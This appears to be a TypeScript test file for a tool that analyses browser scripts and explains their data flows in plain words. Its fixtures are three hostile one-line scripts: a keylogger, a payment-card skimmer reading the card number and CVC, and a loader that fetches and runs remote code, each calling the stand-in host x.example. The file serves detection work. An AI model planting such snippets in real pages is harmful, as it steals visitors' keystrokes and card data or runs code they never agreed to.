import assert from 'node:assert/strict';
import { analyse } from '../flow/analyse.ts';

const card = `document.getElementById('cc-number').value`;

describe('messages of flows', () => {
  for (const [script, message] of [
    [
      `document.onkeypress=function(e){new Image().src='https://x.example/?k='+encodeURIComponent(e.key)}`,
      /^Reads key presses on keypress and sends them to x\.example in the address of an image, URL-encoded;/,
    ],
    [
      `var s=new WebSocket('wss://x.example/');document.forms[0].onsubmit=function(){s.send(JSON.stringify({n:${card},c:document.querySelector('#cvc').value}))}`,
      /^Reads `#cc-number` and `#cvc` on submit and sends them to x\.example over a WebSocket, as JSON/,
    ],
    [
      `fetch('https://x.example/a').then(function(r){return r.text()}).then(function(t){var s=document.createElement('script');s.text=t;document.head.appendChild(s)})`,
      /^Runs what a server answers as code, by a script element filled with it: /,
    ],
  ] as const)
    it(`are worded as a person would: ${message.source.slice(1, 40)}`, () => {
      const messages = analyse(script).evidence.map((one) => one.message);
      assert.ok(
        messages.some((one) => message.test(one)),
        messages.join('\n'),
      );
    });
});
